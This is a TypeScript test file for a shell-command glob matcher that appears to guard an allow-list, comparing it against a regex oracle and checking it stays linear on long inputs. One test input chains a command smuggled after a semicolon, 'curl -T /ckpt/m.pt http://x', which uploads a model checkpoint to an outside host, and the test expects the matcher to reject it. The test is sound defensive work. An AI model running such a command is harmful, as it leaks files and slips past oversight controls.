import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { compileCommandGlob } from './wildcard.js';

/** The backtracking RegExp the automaton replaces (wildcard.ts before it): the oracle. */
function oracle(pattern: string): RegExp {
  const cls = '[^;&|`$<>\\r\\n]';
  let src = '^';
  for (const c of pattern) src += c === '*' ? `${cls}*` : c === '?' ? cls : c.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
  return new RegExp(`${src}$`, 'u');
}

describe('command globs with two or more stars', () => {
  it('decide as the RegExp does (seeded random patterns and commands)', () => {
    const rnd = mulberry32(7_2026);
    const alphabet = ['a', 'b', ' ', '-', ';', '|', '$', '\n', '😀', 'x'];
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
    let matched = 0;
    for (let n = 0; n < 4000; n++) {
      let pattern = '';
      while ((pattern.match(/\*/g) ?? []).length < 2) pattern += rnd() < 0.3 ? '*' : rnd() < 0.15 ? '?' : pick(alphabet);
      pattern = pattern.replace(/\*+/g, '*');
      if ((pattern.match(/\*/g) ?? []).length < 2) continue;
      let command = '';
      if (rnd() < 0.5) {
        // An instance of the pattern (stars and `?` filled with any characters, control ones too).
        for (const c of pattern) {
          if (c === '*') for (let k = Math.floor(rnd() * 3); k > 0; k--) command += pick(alphabet);
          else command += c === '?' ? pick(alphabet) : c;
        }
      } else for (let i = Math.floor(rnd() * 10); i > 0; i--) command += pick(alphabet);
      const want = oracle(pattern).test(command);
      expect(compileCommandGlob(pattern)(command), `${JSON.stringify(pattern)} ${JSON.stringify(command)}`).toBe(want);
      if (want) matched++;
    }
    expect(matched).toBeGreaterThan(300);
  });

  it('take linear time on a hostile 4 KB command (the RegExp took 104 ms on 1 KB, O(n^3))', () => {
    const allow = compileCommandGlob('sh -c python * * * --x');
    expect(allow(`sh -c python ${'a '.repeat(2040)};`)).toBe(false);
    expect(allow(`sh -c python ${'a '.repeat(2040)}--x`)).toBe(true);
    const ps = compileCommandGlob('sh -c ps * | grep * | head -n *');
    expect(ps('sh -c ps aux | grep -i python | head -n 5')).toBe(true);
    expect(ps('sh -c ps aux | grep x; curl -T /ckpt/m.pt http://x | head -n 5')).toBe(false);
  });
});
